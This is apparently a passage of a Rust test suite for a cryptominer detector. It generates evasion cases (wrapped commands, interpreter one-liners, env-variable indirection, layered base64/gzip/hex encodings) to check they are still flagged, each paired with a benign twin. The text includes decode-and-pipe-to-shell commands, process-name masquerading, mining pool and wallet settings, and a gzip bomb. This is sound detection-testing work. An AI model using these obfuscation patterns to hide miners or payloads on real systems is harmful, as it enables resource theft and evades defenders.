//! Evasion classes 1-3 of issue 9, as generated cases: every variant of a class is checked
//! with the miner inside and with a benign twin (the same construction around a benign
//! command), so that closing an evasion does not open a false positive.
//!
//! 1. the command one level deeper (wrappers, interpreter one-liners, loose literals);
//! 2. values given indirectly (kubelet `$(VAR)`, shell `$VAR`, env-only configuration);
//! 3. encodings and size (gzip/zlib in base64, hex, base32, escapes, nesting, bounds).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use crate::detect_common;

use cryptojack::detect::Severity;
use detect_common::*;

/// Builds an argv around a command.
type Wrap = fn(&[String]) -> Vec<String>;

/// Ways of running a command through a wrapper: (name, argv built around the command).
fn wrappers() -> Vec<(&'static str, Wrap)> {
    fn pre(p: &[&str], argv: &[String]) -> Vec<String> {
        let mut v = strings(p);
        v.extend(argv.iter().cloned());
        v
    }
    fn line(argv: &[String]) -> String {
        argv.iter().map(|w| sq(w)).collect::<Vec<_>>().join(" ")
    }
    vec![
        ("plain", |a| a.to_vec()),
        ("nohup", |a| pre(&["nohup"], a)),
        ("setsid", |a| pre(&["setsid", "-f"], a)),
        ("nice", |a| pre(&["nice", "-n", "19"], a)),
        ("nice-cluster", |a| pre(&["/usr/bin/nice", "-19"], a)),
        ("timeout", |a| pre(&["timeout", "-s", "KILL", "24h"], a)),
        ("env", |a| pre(&["env", "-i", "HOME=/tmp", "LANG=C"], a)),
        ("env-u", |a| pre(&["env", "-u", "DEBUG", "A=B"], a)),
        ("sudo", |a| pre(&["sudo", "-u", "nobody", "-E"], a)),
        ("doas", |a| pre(&["doas", "-u", "root"], a)),
        ("gosu", |a| pre(&["gosu", "nobody"], a)),
        ("su-exec", |a| pre(&["su-exec", "1000:1000"], a)),
        ("nsenter", |a| {
            pre(
                &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--"],
                a,
            )
        }),
        ("nsenter-long", |a| {
            pre(&["nsenter", "--target=1", "--mount", "--pid", "--"], a)
        }),
        ("unshare", |a| {
            pre(&["unshare", "-f", "-p", "--mount-proc"], a)
        }),
        ("chroot", |a| pre(&["chroot", "/host"], a)),
        ("chroot-userspec", |a| {
            pre(&["chroot", "--userspec=1000:1000", "/host"], a)
        }),
        ("screen", |a| pre(&["screen", "-dmS", "sess"], a)),
        ("screen-split", |a| {
            pre(
                &[
                    "screen",
                    "-d",
                    "-m",
                    "-S",
                    "w",
                    "-L",
                    "-Logfile",
                    "/dev/null",
                ],
                a,
            )
        }),
        ("taskset", |a| pre(&["taskset", "-c", "0-3"], a)),
        ("chrt", |a| pre(&["chrt", "-i", "0"], a)),
        ("ionice", |a| pre(&["ionice", "-c", "3"], a)),
        ("stdbuf", |a| pre(&["stdbuf", "-oL", "-eL"], a)),
        ("time", |a| pre(&["time", "-p"], a)),
        ("exec-a", |a| pre(&["exec", "-a", "[kworker/0:1]"], a)),
        ("ld.so", |a| pre(&["/lib64/ld-linux-x86-64.so.2"], a)),
        ("tini", |a| pre(&["/sbin/tini", "-s", "--"], a)),
        ("dumb-init", |a| pre(&["dumb-init", "--single-child"], a)),
        ("runuser", |a| pre(&["runuser", "-u", "nobody", "--"], a)),
        ("strace", |a| pre(&["strace", "-f", "-o", "/dev/null"], a)),
        ("proxychains", |a| pre(&["proxychains4", "-q"], a)),
        ("busybox", |a| pre(&["busybox", "nohup"], a)),
        ("flock", |a| pre(&["flock", "-w", "5", "/tmp/lock"], a)),
        ("cgexec", |a| pre(&["cgexec", "-g", "cpu:mining"], a)),
        ("start-stop-daemon", |a| {
            let mut v = strings(&[
                "start-stop-daemon",
                "--start",
                "--background",
                "--make-pidfile",
                "--pidfile",
                "/run/x.pid",
                "--exec",
            ]);
            v.push(a[0].clone());
            v.push("--".into());
            v.extend(a[1..].iter().cloned());
            v
        }),
        ("start-stop-daemon-short", |a| {
            let mut v = strings(&["start-stop-daemon", "-S", "-b", "-x"]);
            v.push(a[0].clone());
            v.push("--".into());
            v.extend(a[1..].iter().cloned());
            v
        }),
        ("sh-c", |a| vec!["sh".into(), "-c".into(), line(a)]),
        ("bash-lc", |a| {
            vec![
                "/bin/bash".into(),
                "-lc".into(),
                format!("cd /tmp && {} &", line(a)),
            ]
        }),
        ("busybox-sh-c", |a| {
            vec!["busybox".into(), "sh".into(), "-c".into(), line(a)]
        }),
        ("su-c", |a| {
            vec![
                "su".into(),
                "-s".into(),
                "/bin/sh".into(),
                "-c".into(),
                line(a),
                "nobody".into(),
            ]
        }),
        ("su-c-first", |a| vec!["su".into(), "-c".into(), line(a)]),
        ("runuser-c", |a| {
            vec![
                "runuser".into(),
                "-l".into(),
                "app".into(),
                "-c".into(),
                line(a),
            ]
        }),
        ("tmux-new", |a| {
            vec![
                "tmux".into(),
                "new".into(),
                "-d".into(),
                "-s".into(),
                "w".into(),
                line(a),
            ]
        }),
        ("tmux-new-session", |a| {
            vec!["tmux".into(), "new-session".into(), "-d".into(), line(a)]
        }),
        ("tmux-send-keys", |a| {
            vec![
                "tmux".into(),
                "send-keys".into(),
                "-t".into(),
                "w".into(),
                line(a),
                "Enter".into(),
            ]
        }),
        ("screen-sh", |a| {
            vec![
                "screen".into(),
                "-dmS".into(),
                "x".into(),
                "sh".into(),
                "-c".into(),
                line(a),
            ]
        }),
        ("watch", |a| {
            vec!["watch".into(), "-n".into(), "3600".into(), line(a)]
        }),
        ("script-c", |a| {
            vec!["script".into(), "-qc".into(), line(a), "/dev/null".into()]
        }),
        ("flock-c", |a| {
            vec!["flock".into(), "/tmp/l".into(), "-c".into(), line(a)]
        }),
        ("env-S", |a| vec!["env".into(), "-S".into(), a.join(" ")]),
        ("sh-eval", |a| {
            vec!["sh".into(), "-c".into(), format!("eval {}", sq(&line(a)))]
        }),
        ("sh-xargs", |a| {
            vec![
                "sh".into(),
                "-c".into(),
                format!("echo x | xargs -I{{}} -n 1 {}", line(a)),
            ]
        }),
        ("sh-nested", |a| {
            vec![
                "sh".into(),
                "-c".into(),
                format!(
                    "bash -c {}",
                    sq(&format!("nohup {} >/dev/null 2>&1 &", line(a)))
                ),
            ]
        }),
        ("sh-subshell", |a| {
            vec!["sh".into(), "-c".into(), format!("( {} ) || true", line(a))]
        }),
        ("sh-if", |a| {
            vec![
                "sh".into(),
                "-c".into(),
                format!("if true; then {}; fi", line(a)),
            ]
        }),
        ("sh-while", |a| {
            vec![
                "sh".into(),
                "-c".into(),
                format!("while true; do {}; sleep 5; done", line(a)),
            ]
        }),
        ("sh-echo-pipe", |a| {
            vec![
                "sh".into(),
                "-c".into(),
                format!("echo {} | sh", sq(&line(a))),
            ]
        }),
        ("sh-heredoc", |a| {
            vec![
                "sh".into(),
                "-c".into(),
                format!("sh <<'EOF'\n{}\nEOF\n", line(a)),
            ]
        }),
        ("sh-here-string", |a| {
            vec![
                "bash".into(),
                "-c".into(),
                format!("bash <<< {}", sq(&line(a))),
            ]
        }),
        ("sh-positional", |a| {
            let mut v = strings(&["sh", "-c", "exec \"$0\" \"$@\""]);
            v.extend(a.iter().cloned());
            v
        }),
    ]
}

#[test]
fn class1_wrappers_are_looked_through() {
    let mut cases = Vec::new();
    for (wname, wrap) in wrappers() {
        for (k, argv) in miner_argvs().iter().enumerate() {
            let v = wrap(argv);
            let refs: Vec<&str> = v.iter().map(String::as_str).collect();
            cases.push(Case::one(
                format!("{wname} miner#{k}: {v:?}"),
                container("alpine:3.20", &refs, &[]),
                Expect::Miner,
            ));
        }
        for (k, argv) in benign_argvs().iter().enumerate() {
            let v = wrap(argv);
            let refs: Vec<&str> = v.iter().map(String::as_str).collect();
            cases.push(Case::one(
                format!("{wname} benign#{k}: {v:?}"),
                container("alpine:3.20", &refs, &[]),
                Expect::Benign,
            ));
        }
    }
    let counts = check(&cases);
    assert_class_size(&counts, 300, 300);
}

#[test]
fn class1_the_wrapped_program_is_the_miner_binary() {
    // a miner name as the wrapped program is the program it is (critical), not a mention
    let mut cases = Vec::new();
    for (wname, wrap) in wrappers() {
        for name in [
            "xmrig",
            "t-rex",
            "lolMiner",
            "SRBMiner-MULTI",
            "bzminer",
            "rigel",
            "onezerominer",
            "hellminer",
            "xmrigDaemon",
        ] {
            let argv = strings(&[&format!("/opt/{name}"), "--help"]);
            let v = wrap(&argv);
            let refs: Vec<&str> = v.iter().map(String::as_str).collect();
            cases.push(
                Case::one(
                    format!("{wname} {name}"),
                    container("ubuntu:24.04", &refs, &[]),
                    Expect::Rule(format!(
                        "builtin/miner-binary/{}",
                        name.to_ascii_lowercase()
                    )),
                )
                .also(Expect::Exactly(Severity::Critical)),
            );
        }
        // twin: the wrapper running a program whose name only contains a miner's
        let argv = strings(&["/opt/xmrigorous-report", "--help"]);
        let v = wrap(&argv);
        let refs: Vec<&str> = v.iter().map(String::as_str).collect();
        cases.push(Case::one(
            format!("{wname} twin"),
            container("ubuntu:24.04", &refs, &[]),
            Expect::Benign,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 500, 60);
}

/// Interpreter one-liners that run an argv or a command line.
fn one_liners(argv: &[String]) -> Vec<(&'static str, Vec<String>)> {
    let py_list = format!(
        "[{}]",
        argv.iter()
            .map(|a| format!("'{a}'"))
            .collect::<Vec<_>>()
            .join(", ")
    );
    let js_list = format!(
        "[{}]",
        argv[1..]
            .iter()
            .map(|a| format!("'{a}'"))
            .collect::<Vec<_>>()
            .join(", ")
    );
    let line = argv.join(" ");
    let perl_list = argv
        .iter()
        .map(|a| format!("\"{a}\""))
        .collect::<Vec<_>>()
        .join(", ");
    let c = |i: &str, o: &str, code: String| vec![i.to_string(), o.to_string(), code];
    vec![
        (
            "python-popen",
            c(
                "python3",
                "-c",
                format!("import subprocess; subprocess.Popen({py_list})"),
            ),
        ),
        (
            "python-run-kw",
            c(
                "python",
                "-c",
                format!(
                    "import subprocess\nsubprocess.run({py_list}, check=False, stdout=subprocess.DEVNULL)"
                ),
            ),
        ),
        (
            "python-os-system",
            c(
                "/usr/bin/python3.12",
                "-c",
                format!("import os; os.system('{line} &')"),
            ),
        ),
        (
            "python-execv",
            c(
                "python3",
                "-Sc",
                format!("import os; os.execv('{}', {py_list})", argv[0]),
            ),
        ),
        (
            "python-variable",
            c(
                "python3",
                "-c",
                format!("import subprocess as s\ncmd = {py_list}\ns.Popen(cmd)"),
            ),
        ),
        (
            "python-getoutput",
            c(
                "python3",
                "-c",
                format!("import subprocess; print(subprocess.getoutput(\"{line}\"))"),
            ),
        ),
        (
            "python-concat",
            c(
                "python3",
                "-c",
                format!(
                    "import os; os.system('{}' + '{}')",
                    &line[..line.len() / 2],
                    &line[line.len() / 2..]
                ),
            ),
        ),
        (
            "python-reversed",
            c(
                "python3",
                "-c",
                format!(
                    "import os; os.system('{}'[::-1])",
                    line.chars().rev().collect::<String>()
                ),
            ),
        ),
        (
            "perl-system-list",
            c("perl", "-e", format!("system({perl_list});")),
        ),
        ("perl-exec", c("perl", "-e", format!("exec \"{line}\""))),
        (
            "perl-backticks",
            c("perl", "-le", format!("print `{line}`")),
        ),
        ("perl-qx", c("perl", "-e", format!("my $o = qx{{{line}}};"))),
        ("ruby-system", c("ruby", "-e", format!("system('{line}')"))),
        (
            "ruby-spawn",
            c("ruby", "-e", format!("Process.spawn({perl_list})")),
        ),
        ("ruby-percent-x", c("ruby", "-e", format!("%x({line})"))),
        (
            "node-spawn",
            c(
                "node",
                "-e",
                format!(
                    "require('child_process').spawn('{}', {js_list}, {{detached: true}})",
                    argv[0]
                ),
            ),
        ),
        (
            "node-execSync",
            c(
                "node",
                "--eval",
                format!("const cp = require('child_process'); cp.execSync(\"{line}\")"),
            ),
        ),
        (
            "node-exec-template",
            c(
                "nodejs",
                "-e",
                format!("require('child_process').exec(`{line}`)"),
            ),
        ),
        (
            "php-shell_exec",
            c("php", "-r", format!("shell_exec('{line}');")),
        ),
        (
            "php-system",
            c("php8.2", "-r", format!("system(\"{line}\");")),
        ),
        (
            "php-passthru",
            c("php", "-r", format!("passthru('{line}');")),
        ),
        (
            "lua-execute",
            c("lua5.4", "-e", format!("os.execute('{line}')")),
        ),
        ("r-system", c("Rscript", "-e", format!("system('{line}')"))),
        (
            "awk-system",
            vec!["awk".into(), format!("BEGIN {{ system(\"{line}\") }}")],
        ),
        (
            "awk-pipe-sh",
            vec![
                "gawk".into(),
                format!("BEGIN {{ print \"{line}\" | \"sh\" }}"),
            ],
        ),
        (
            "python-in-sh",
            vec![
                "sh".into(),
                "-c".into(),
                format!(
                    "python3 -c {}",
                    sq(&format!("import os; os.system('{line}')"))
                ),
            ],
        ),
        (
            "python-stdin-heredoc",
            vec![
                "sh".into(),
                "-c".into(),
                format!("python3 - <<'EOF'\nimport os\nos.system('{line}')\nEOF\n"),
            ],
        ),
    ]
}

#[test]
fn class1_interpreter_one_liners() {
    let mut cases = Vec::new();
    for (k, argv) in miner_argvs().iter().enumerate() {
        for (name, v) in one_liners(argv) {
            let refs: Vec<&str> = v.iter().map(String::as_str).collect();
            cases.push(Case::one(
                format!("{name} miner#{k}: {v:?}"),
                container("python:3.12-slim", &refs, &[]),
                Expect::Miner,
            ));
        }
    }
    for (k, argv) in benign_argvs().iter().enumerate() {
        for (name, v) in one_liners(argv) {
            let refs: Vec<&str> = v.iter().map(String::as_str).collect();
            cases.push(Case::one(
                format!("{name} benign#{k}: {v:?}"),
                container("python:3.12-slim", &refs, &[]),
                Expect::Benign,
            ));
        }
    }
    // twins: scripts that name miners to kill or check for them
    for v in [
        vec![
            "python3",
            "-c",
            "import psutil\nfor p in psutil.process_iter():\n    if p.name() in ('xmrig', 'kdevtmpfsi'): p.kill()",
        ],
        vec![
            "python3",
            "-c",
            "import subprocess; subprocess.run(['pkill', '-f', 'xmrig'])",
        ],
        vec!["perl", "-e", "system('pkill -9 xmrig; pkill kinsing')"],
        vec![
            "node",
            "-e",
            "console.log('scanning for xmrig and t-rex processes')",
        ],
    ] {
        cases.push(Case::one(
            format!("killer twin {v:?}"),
            container("python:3.12", &v, &[]),
            Expect::Benign,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 120, 120);
}

#[test]
fn class1_a_miner_name_before_a_delimiter_in_larger_code_is_the_program() {
    let mut cases = Vec::new();
    for name in ["xmrig", "t-rex", "nanominer", "lolminer", "kdevtmpfsi"] {
        for (i, code) in [
            format!("import os\nBIN = '/dev/shm/{name}'\nos.system(BIN + ' -o x')"),
            format!("cmd = \"/tmp/.x/{name} --no-color\"\nimport os; os.popen(cmd)"),
            format!("import subprocess as s; a = ['/tmp/{name}', '-c', 'c.json']; s.call(a)"),
            format!("paths = ['/tmp/{name}', '/usr/bin/true']\nfor p in paths: __import__('os').system(p)"),
        ]
        .into_iter()
        .enumerate()
        {
            cases.push(Case::one(
                format!("{name} loose#{i}"),
                container("python:3.12", &["python3", "-c", &code], &[]),
                Expect::Miner,
            ));
        }
    }
    check(&cases);
}

// ------------------------------------------------------------------ class 2

#[test]
fn class2_kubelet_expansion_of_command_and_args() {
    let mut cases = Vec::new();
    let miner_env: &[(&str, &str)] = &[
        ("X1", "rx/0"),
        ("X2", "mine.example.net:3333"),
        ("X3", "ghostrider"),
        ("BIN", "/var/tmp/.cache/xmrig"),
        ("HOST", "gulf.moneroocean.stream"),
        ("PORT", "10128"),
        ("URL", "stratum+tcp://$(HOST):$(PORT)"),
    ];
    let benign_env: &[(&str, &str)] = &[
        ("X1", "adamw"),
        ("X2", "db.internal:5432"),
        ("X3", "sha256"),
        ("BIN", "/usr/local/bin/server"),
        ("HOST", "api.internal"),
        ("PORT", "8443"),
        ("URL", "https://$(HOST):$(PORT)"),
    ];
    let shapes: Vec<(&str, Vec<&str>, Vec<&str>)> = vec![
        (
            "algo+pool",
            vec!["/app/run"],
            vec!["-a", "$(X1)", "-o", "$(X2)"],
        ),
        (
            "algo-inline",
            vec!["/app/run", "--algo=$(X1)"],
            vec!["--url=$(X2)"],
        ),
        ("program", vec!["$(BIN)"], vec!["--threads", "4"]),
        ("program-path", vec!["/var/tmp/.cache/$(NAME)"], vec![]),
        ("nested-env", vec!["/app/run"], vec!["--url", "$(URL)"]),
        (
            "in-script",
            vec!["sh", "-c", "cd /tmp && $(BIN) -a $(X1) -o $(X2)"],
            vec![],
        ),
        (
            "ghostrider",
            vec!["/app/run", "-a", "$(X3)", "-o", "$(X2)"],
            vec![],
        ),
    ];
    for (name, cmd, args) in &shapes {
        let mut env = miner_env.to_vec();
        env.push(("NAME", "xmrig"));
        cases.push(Case::one(
            format!("{name} miner"),
            with_env(container("ubuntu:24.04", cmd, args), &env),
            Expect::Miner,
        ));
        let mut env = benign_env.to_vec();
        env.push(("NAME", "server"));
        cases.push(Case::one(
            format!("{name} benign"),
            with_env(container("ubuntu:24.04", cmd, args), &env),
            Expect::Benign,
        ));
        // `$$(VAR)` is a literal `$(VAR)`: not expanded from the env
        let escaped: Vec<String> = args.iter().map(|a| a.replace("$(", "$$(")).collect();
        let escaped_cmd: Vec<String> = cmd.iter().map(|a| a.replace("$(", "$$(")).collect();
        if *name != "in-script" && *name != "nested-env" {
            let er: Vec<&str> = escaped.iter().map(String::as_str).collect();
            let ec: Vec<&str> = escaped_cmd.iter().map(String::as_str).collect();
            cases.push(Case::one(
                format!("{name} escaped twin"),
                with_env(
                    container("ubuntu:24.04", &ec, &er),
                    &[
                        ("X1", "rx/0"),
                        ("X2", "mine.example.net:3333"),
                        ("X3", "ghostrider"),
                        ("BIN", "/usr/local/bin/srv"),
                        ("NAME", "srv"),
                    ],
                ),
                Expect::Benign,
            ));
        }
    }
    check(&cases);
}

#[test]
fn class2_shell_parameters_from_the_env() {
    let mut cases = Vec::new();
    let cmd_b64 = b64(&format!(
        "/tmp/.x/kworker -o mine.example.net:3333 -u {XMR} --donate-level 1"
    ));
    let benign_b64 = b64("python3 -m http.server 8080");
    let scripts = [
        "$BIN -a $ALG -o $POOL",
        "${BIN} --algo=${ALG} --url=${POOL}",
        "exec \"$BIN\" -a \"$ALG\" -o \"$POOL\"",
        "B=$BIN; A=$ALG; $B -a $A -o ${POOL:-none}",
        "export RUN=\"$BIN -a $ALG\"; $RUN -o $POOL",
        "echo \"$PAYLOAD\" | base64 -d | sh",
        "echo $PAYLOAD|base64 --decode>/tmp/a.sh; sh /tmp/a.sh",
        "sh -c \"$(echo $PAYLOAD | base64 -d)\"",
        "base64 -d <<< \"$PAYLOAD\" | bash",
        "$BIN${IFS}-a${IFS}$ALG${IFS}-o${IFS}$POOL",
    ];
    for (i, s) in scripts.iter().enumerate() {
        cases.push(Case::one(
            format!("script#{i} miner: {s}"),
            with_env(
                container("alpine", &["sh", "-c", s], &[]),
                &[
                    ("BIN", "/usr/local/bin/app"),
                    ("ALG", "rx/0"),
                    ("POOL", "mine.example.net:3333"),
                    ("PAYLOAD", &cmd_b64),
                ],
            ),
            Expect::Miner,
        ));
        cases.push(Case::one(
            format!("script#{i} benign: {s}"),
            with_env(
                container("alpine", &["sh", "-c", s], &[]),
                &[
                    ("BIN", "/usr/local/bin/app"),
                    ("ALG", "lz4"),
                    ("POOL", "cache.internal:6379"),
                    ("PAYLOAD", &benign_b64),
                ],
            ),
            Expect::Benign,
        ));
    }
    // the whole script in an env variable: `sh -c "$SCRIPT"` / kubelet `$(SCRIPT)`
    for (i, cmd) in [
        vec!["sh", "-c", "$SCRIPT"],
        vec!["sh", "-c", "$(SCRIPT)"],
        vec!["/bin/sh", "-c", "eval \"$SCRIPT\""],
    ]
    .iter()
    .enumerate()
    {
        cases.push(Case::one(
            format!("script-in-env#{i} miner"),
            with_env(
                container("alpine", cmd, &[]),
                &[(
                    "SCRIPT",
                    "cd /tmp; ./kworker -a rx/0 -o mine.example.net:3333",
                )],
            ),
            Expect::Miner,
        ));
        cases.push(Case::one(
            format!("script-in-env#{i} benign"),
            with_env(
                container("alpine", cmd, &[]),
                &[("SCRIPT", "cd /srv; ./server -a lz4 -o out.log")],
            ),
            Expect::Benign,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 13, 13);
}

#[test]
fn class2_configuration_given_only_in_env() {
    let pools = [
        ("POOL", "mine.example.net:3333"),
        ("POOL_URL", "stratum+tcp://mine.example.net:3333"),
        ("MINING_POOL", "mine.example.net:443"),
        ("STRATUM", "mine.example.net:14444"),
        ("POOL_ADDRESS", "10.9.8.7:3333"),
        ("MINER_HOST", "mine.example.net:7777"),
    ];
    let wallets = [
        ("WALLET", ETH),
        ("WALLET_ADDRESS", RVN),
        ("POOL_USER", BTC),
        ("PAYOUT_ADDRESS", ETH),
        ("USER", RVN),
        ("WAL", ETH),
    ];
    let algos = [
        ("ALGO", "rx/0"),
        ("ALGORITHM", "kawpow"),
        ("ALGO", "ghostrider"),
        ("MINING_ALGO", "etchash"),
    ];
    let coins = [("COIN", "monero"), ("CURRENCY", "rvn"), ("COIN", "zephyr")];
    let extras = [
        ("WORKER", "rig-7"),
        ("RIG_ID", "node1"),
        ("DONATE_LEVEL", "0"),
    ];
    let mut cases = Vec::new();
    let img = "ghcr.io/example/agent:2.1";
    for p in pools {
        for w in wallets {
            cases.push(Case::one(
                format!("{p:?}+{w:?}"),
                with_env(container(img, &["/app/agent"], &[]), &[p, w]),
                Expect::Miner,
            ));
        }
        for a in algos {
            cases.push(Case::one(
                format!("{p:?}+{a:?}"),
                with_env(container(img, &[], &[]), &[a, p]),
                Expect::Miner,
            ));
        }
        for e in extras {
            cases.push(Case::one(
                format!("{p:?}+{e:?}"),
                with_env(container(img, &[], &[]), &[p, e]),
                Expect::Miner,
            ));
        }
        // twin: a connection pool, sized (a stratum URL is a miner's on its own)
        if p.1.starts_with("stratum") {
            continue;
        }
        cases.push(Case::one(
            format!("{p:?} alone"),
            with_env(
                container(img, &["/app/agent"], &[]),
                &[p, ("POOL_SIZE", "10")],
            ),
            Expect::Benign,
        ));
    }
    for w in wallets {
        for c in coins {
            cases.push(Case::one(
                format!("{w:?}+{c:?}"),
                with_env(container(img, &[], &[]), &[w, c]),
                Expect::Miner,
            ));
        }
        // twin: a balance monitor watching an address
        cases.push(Case::one(
            format!("{w:?} alone"),
            with_env(
                container("ghcr.io/example/balance-exporter:1.4", &["/exporter"], &[]),
                &[w, ("INTERVAL", "60s")],
            ),
            Expect::Benign,
        ));
    }
    // an algorithm variable alone is suspicious, not a miner
    for a in algos {
        cases.push(Case::one(
            format!("{a:?} alone"),
            with_env(container(img, &[], &[]), &[a]),
            Expect::Exactly(Severity::Medium),
        ));
    }
    // twins: database and HTTP connection pools, worker counts
    for env in [
        vec![
            ("DB_POOL", "postgres.internal:5432"),
            ("POOL_SIZE", "20"),
            ("WORKER_COUNT", "4"),
        ],
        vec![
            ("REDIS_POOL_URL", "redis://cache.internal:6379/0"),
            ("WORKERS", "8"),
            ("ALGORITHM", "sha256"),
        ],
        vec![
            ("HTTP_POOL_HOST", "api.internal:8443"),
            ("USER", "svc-api"),
            ("COIN", "usd"),
        ],
        vec![
            ("THREAD_POOL", "16"),
            ("WORKER", "celery"),
            ("CURRENCY", "EUR"),
        ],
    ] {
        cases.push(Case::one(
            format!("{env:?}"),
            with_env(container(img, &[], &[]), &env),
            Expect::Benign,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 80, 15);
}

// ------------------------------------------------------------------ class 3

/// Encodings of a script and the pipelines that run them.
fn encoded(script: &str) -> Vec<(&'static str, String)> {
    let s = script.as_bytes();
    let rev: String = script.chars().rev().collect();
    let rot: String = script
        .chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a' + 13) % 26) + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A' + 13) % 26) + b'A') as char,
            c => c,
        })
        .collect();
    let esc: String = s.iter().map(|b| format!("\\x{b:02x}")).collect();
    let oct: String = s.iter().map(|b| format!("\\{b:03o}")).collect();
    let b32 = {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
        let mut out = String::new();
        let (mut acc, mut bits) = (0u64, 0);
        for &b in s {
            acc = (acc << 8) | u64::from(b);
            bits += 8;
            while bits >= 5 {
                bits -= 5;
                out.push(A[((acc >> bits) & 31) as usize] as char);
            }
        }
        if bits > 0 {
            out.push(A[((acc << (5 - bits)) & 31) as usize] as char);
        }
        out
    };
    let mut layered = script.to_string();
    for _ in 0..4 {
        layered = format!("echo {} | base64 -d | sh", b64(&layered));
    }
    vec![
        ("base64", format!("echo {} | base64 -d | sh", b64(script))),
        (
            "base64-wrapped",
            format!(
                "echo '{}' | base64 --decode | bash",
                b64(script)
                    .as_bytes()
                    .chunks(20)
                    .map(|c| String::from_utf8_lossy(c).into_owned())
                    .collect::<Vec<_>>()
                    .join("\n")
            ),
        ),
        (
            "gzip-base64",
            format!("echo {} | base64 -d | gunzip | sh", b64_bytes(&gzip(s))),
        ),
        (
            "gzip-base64-no-gunzip",
            format!(
                "echo {} | base64 -d > /tmp/x.gz; zcat /tmp/x.gz | sh",
                b64_bytes(&gzip(s))
            ),
        ),
        (
            "zlib-base64",
            format!(
                "echo {} | base64 -d | zlib-flate -uncompress | sh",
                b64_bytes(&zlib(s))
            ),
        ),
        (
            "openssl-base64",
            format!("echo {} | openssl base64 -d -A | sh", b64(script)),
        ),
        ("hex-xxd", format!("echo {} | xxd -r -p | sh", hex(s))),
        (
            "hex-gzip",
            format!("echo {} | xxd -r -p | gzip -dc | sh", hex(&gzip(s))),
        ),
        ("base32", format!("echo {b32} | base32 -d | sh")),
        ("printf-hex", format!("printf '{esc}' | sh")),
        ("printf-octal", format!("printf '{oct}' | sh")),
        ("echo-e", format!("echo -e '{esc}' | bash")),
        ("ansi-c", format!("bash -c $'{esc}'")),
        ("subst-printf", format!("sh -c \"$(printf '{esc}')\"")),
        ("rev", format!("echo {} | rev | sh", sq(&rev))),
        (
            "rot13",
            format!("echo {} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", sq(&rot)),
        ),
        ("here-string", format!("base64 -d <<< {} | sh", b64(script))),
        (
            "heredoc",
            format!("base64 -d <<EOF | sh\n{}\nEOF\n", b64(script)),
        ),
        ("four-layers", layered),
        (
            "python-b64",
            format!(
                "python3 -c \"import base64,os;os.system(base64.b64decode('{}').decode())\"",
                b64(script)
            ),
        ),
        (
            "python-zlib-exec",
            format!(
                "python3 -c \"import zlib,base64;exec(zlib.decompress(base64.b64decode('{}')))\"",
                b64_bytes(&zlib(
                    format!("import os\nos.system('{script}')").as_bytes()
                ))
            ),
        ),
        (
            "perl-b64",
            format!(
                "perl -MMIME::Base64 -e 'eval decode_base64(\"{}\")'",
                b64(&format!("system(\"{script}\");"))
            ),
        ),
        (
            "node-buffer",
            format!(
                "node -e \"require('child_process').execSync(Buffer.from('{}', 'base64').toString())\"",
                b64(script)
            ),
        ),
        ("php-gzinflate", {
            let mut raw =
                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
            std::io::Write::write_all(&mut raw, format!("system('{script}');").as_bytes()).unwrap();
            format!(
                "php -r \"eval(gzinflate(base64_decode('{}')));\"",
                b64_bytes(&raw.finish().unwrap())
            )
        }),
    ]
}

#[test]
fn class3_encodings_are_decoded() {
    let miner = format!("cd /tmp; ./kworker -a rx/0 -o mine.example.net:3333 -u {XMR}");
    let benign = "cd /srv; ./server --port 8080 --workers 4";
    let mut cases = Vec::new();
    for (name, script) in encoded(&miner) {
        cases.push(Case::one(
            format!("{name} miner"),
            container("alpine", &["sh", "-c", &script], &[]),
            Expect::Miner,
        ));
        cases.push(Case::one(
            format!("{name} miner in args"),
            container("alpine", &["/bin/sh"], &["-c", &script]),
            Expect::Miner,
        ));
    }
    for (name, script) in encoded(benign) {
        cases.push(Case::one(
            format!("{name} benign"),
            container("alpine", &["sh", "-c", &script], &[]),
            Expect::Benign,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 40, 20);
}

#[test]
fn class3_nested_layers_within_the_budget_and_reported_beyond() {
    let miner = "./xmrig -o pool.example.net:3333 --donate-level 1";
    let mut cases = Vec::new();
    // mixed encodings, 1 to 8 layers: all decoded
    let mut s = miner.to_string();
    for layer in 1..=8 {
        s = match layer % 3 {
            0 => format!(
                "echo {} | base64 -d | gunzip | sh",
                b64_bytes(&gzip(s.as_bytes()))
            ),
            1 => format!("echo {} | base64 -d | sh", b64(&s)),
            _ => format!("echo {} | xxd -r -p | sh", hex(s.as_bytes())),
        };
        if s.len() < 200_000 {
            cases.push(
                Case::one(
                    format!("{layer} layers"),
                    container("alpine", &["sh", "-c", &s], &[]),
                    Expect::Miner,
                )
                .also(Expect::Rule("builtin/miner-binary/xmrig".into())),
            );
        }
    }
    // beyond the layer bound: a finding of its own, never silence
    let mut deep = miner.to_string();
    for _ in 0..12 {
        deep = format!("echo {} | base64 -d | sh", b64(&deep));
    }
    cases.push(
        Case::one(
            "12 layers",
            container("alpine", &["sh", "-c", &deep], &[]),
            Expect::Rule("builtin/obfuscation/uninspected".into()),
        )
        .also(Expect::AtMost(Severity::Medium)),
    );
    // a gzip bomb is refused and reported: high when a shell runs it, medium otherwise
    let bomb = b64_bytes(&gzip(&vec![b'A'; 16 << 20]));
    cases.push(
        Case::one(
            "gzip bomb",
            container(
                "alpine",
                &[
                    "sh",
                    "-c",
                    &format!("echo {bomb} | base64 -d | gunzip | sh"),
                ],
                &[],
            ),
            Expect::Rule("builtin/obfuscation/uninspected".into()),
        )
        .also(Expect::Exactly(Severity::High)),
    );
    cases.push(
        Case::one(
            "gzip bomb unpacked to a file",
            container(
                "alpine",
                &[
                    "sh",
                    "-c",
                    &format!("echo {bomb} | base64 -d | gunzip > /tmp/out"),
                ],
                &[],
            ),
            Expect::Rule("builtin/obfuscation/uninspected".into()),
        )
        .also(Expect::AtMost(Severity::Medium)),
    );
    // unsupported compressors are reported
    cases.push(Case::one(
        "bzip2",
        container(
            "alpine",
